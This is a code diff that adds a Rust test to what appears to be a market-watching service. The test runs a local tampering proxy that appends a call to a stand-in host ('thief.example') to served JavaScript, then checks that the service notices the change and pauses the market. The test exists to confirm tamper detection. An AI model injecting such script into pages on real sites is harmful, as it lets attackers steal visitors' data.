@@ -7,6 +7,8 @@ use crate::{
 };
 use serde_json::{Value, json};
 use std::{
+    io::{Read, Write},
+    net::{TcpListener, TcpStream},
     path::Path,
     time::{Duration, Instant},
 };
@@ -89,4 +91,54 @@ fn a_stolen_key_is_answered_on_the_chain_and_drills_find_every_attack() {
     let house = House::open(directory.path());
     assert!(is_paused(&house, market));
     house.kill();
+}
+
+/// Serves what another port does, and puts a line of its own into every script.
+fn meddler(behind: u16) -> u16 {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            let mut request = [0; 4096];
+            let length = stream.read(&mut request).unwrap_or(0);
+            let path = String::from_utf8_lossy(&request[..length]).split(' ').nth(1).unwrap_or("/").to_owned();
+            let Ok(mut there) = TcpStream::connect(("127.0.0.1", behind)) else { continue };
+            let asked = format!("GET {path} HTTP/1.0\r\nhost: 127.0.0.1\r\n\r\n");
+            let mut answer = Vec::new();
+            let _ = there.write_all(asked.as_bytes()).and_then(|()| there.read_to_end(&mut answer).map(drop));
+            let body = answer.windows(4).position(|four| four == b"\r\n\r\n").map_or(0, |end| end + 4);
+            let mut body = answer.split_off(body);
+            if path.ends_with(".js") {
+                body.extend_from_slice(b";send('https://thief.example')");
+            }
+            let head = format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n", body.len());
+            let _ = stream.write_all(&[head.as_bytes(), &body].concat());
+        }
+    });
+    port
+}
+
+#[test]
+fn a_page_that_somebody_changed_on_the_way_closes_the_market() {
+    let directory = tempfile::tempdir().unwrap();
+    let house = House::open(directory.path());
+    if house.ask("GET", "/theme.js", "", "").unwrap().0 != 200 {
+        eprintln!("skipped: this program was built without its console");
+        return;
+    }
+    let manifest: Value =
+        serde_json::from_slice(&std::fs::read(directory.path().join("manifest.json")).unwrap()).unwrap();
+    let market = manifest["market"]["address"].as_str().unwrap();
+    let site = format!("http://127.0.0.1:{}", meddler(house.http));
+    let shop = tempfile::tempdir().unwrap();
+    let shop =
+        House::open_with(shop.path(), &["--public-url", &site, "--look-every", "1s"], std::process::Stdio::null());
+    let since = Instant::now();
+    while !is_paused(&shop, market) {
+        assert!(since.elapsed() < Duration::from_secs(60), "the market is still open");
+        std::thread::sleep(Duration::from_millis(300));
+    }
+    let (_, metrics) = shop.ask("GET", "/metrics", "", "").unwrap();
+    assert!(metrics.contains("guildhall_site_reachable 1"), "{metrics}");
+    assert!(metrics.lines().any(|line| line.starts_with("guildhall_site_drift") && !line.ends_with(" 0")), "{metrics}");
 }
